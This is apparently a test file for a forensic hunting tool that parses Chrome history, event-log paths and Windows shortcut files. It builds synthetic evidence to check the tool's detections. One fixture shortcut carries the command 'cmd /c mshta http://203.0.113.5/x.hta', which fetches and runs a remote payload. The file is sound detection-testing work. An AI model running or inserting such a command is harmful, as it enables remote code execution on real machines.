"""Browsers, prefetch and links; and that every source of the table has a reader."""

from __future__ import annotations

import sqlite3
import struct
from pathlib import Path

from firstbell.investigate.hunts.reader import EVENTLOG
from firstbell.investigate.hunts.readers.table import READERS
from firstbell.investigate.hunts.sources.table import BESIDE, KINDS, find_kind
from tests.investigate.hunts.made import MadeHost, signs_of

FOLDER = "/C/Users/bob/AppData/Local/Google/Chrome/User Data/Default"
WHEN = (1_700_000_000 + 11_644_473_600) * 1_000_000


def test_every_source_has_a_reader() -> None:
    assert {kind.reader for kind in KINDS} - {EVENTLOG, BESIDE} <= set(READERS)


def test_a_path_is_told_by_its_whole_name() -> None:
    kind = find_kind(b"/C/Windows/System32/winevt/Logs/Security.evtx")
    assert kind is not None
    assert kind.source == "eventlog"
    assert find_kind(b"/C/Users/bob/Documents/history.docx") is None
    assert find_kind(b"/var/log/auth.log.3.gz") is not None


def make_history(folder: Path) -> dict[str, bytes]:
    """Chrome's history with one page and one download, the download still in its journal."""
    path = folder / "History"
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA wal_autocheckpoint=0")
    connection.execute("CREATE TABLE urls (url TEXT, last_visit_time INTEGER)")
    connection.execute(
        "CREATE TABLE downloads (target_path TEXT, tab_url TEXT, start_time INTEGER, total_bytes INTEGER)"
    )
    connection.execute("INSERT INTO urls VALUES ('https://mega.nz/folder/x', ?)", (WHEN,))
    connection.commit()
    connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    connection.execute(
        "INSERT INTO downloads VALUES ('C:\\Users\\bob\\Downloads\\invoice.iso', 'https://a.example', ?, 9)",
        (WHEN,),
    )
    connection.commit()
    files = {
        f"{FOLDER}/History": path.read_bytes(),
        f"{FOLDER}/History-wal": path.with_name("History-wal").read_bytes(),
    }
    connection.close()
    return files


def test_pages_and_downloads_are_read_with_what_stands_in_the_journal(tmp_path: Path) -> None:
    made = MadeHost()
    made.add_night(make_history(tmp_path))
    result = made.hunt()
    assert signs_of(result) == ["entry.opened", "theft.browser"]
    assert {trace.account for trace in result.traces} == {"bob"}
    assert {trace.time_ns for trace in result.traces} == {1_700_000_000 * 10**9}


def test_a_page_for_sending_files_is_no_proof_that_a_file_was_sent(tmp_path: Path) -> None:
    made = MadeHost()
    made.add_night(make_history(tmp_path))
    (taken,) = [one for one in made.hunt().answers if one.question == "taken"]
    assert (taken.state, len(taken.pointing)) == ("undetermined", 1)


def make_link(arguments: str) -> bytes:
    """A link with a relative path and arguments."""
    flags = 0x08 | 0x20 | 0x80
    head = struct.pack(
        "<I16sII24sIIIHHII",
        76,
        bytes.fromhex("0114020000000000c000000000000046"),
        flags,
        0,
        bytes(24),
        0,
        0,
        1,
        0,
        0,
        0,
        0,
    )
    texts = (r"..\Windows\System32\cmd.exe", arguments)
    return head + b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts)


def test_a_link_that_runs_something_is_told_and_an_ordinary_one_is_not() -> None:
    made = MadeHost()
    folder = "/C/Users/bob/AppData/Roaming/Microsoft/Windows/Recent"
    made.add_night(
        {
            f"{folder}/a.lnk": make_link("/c mshta http://203.0.113.5/x.hta"),
            f"{folder}/b.lnk": make_link("/k cd"),
        }
    )
    result = made.hunt()
    assert signs_of(result) == ["entry.opened"]
    assert result.unread == []
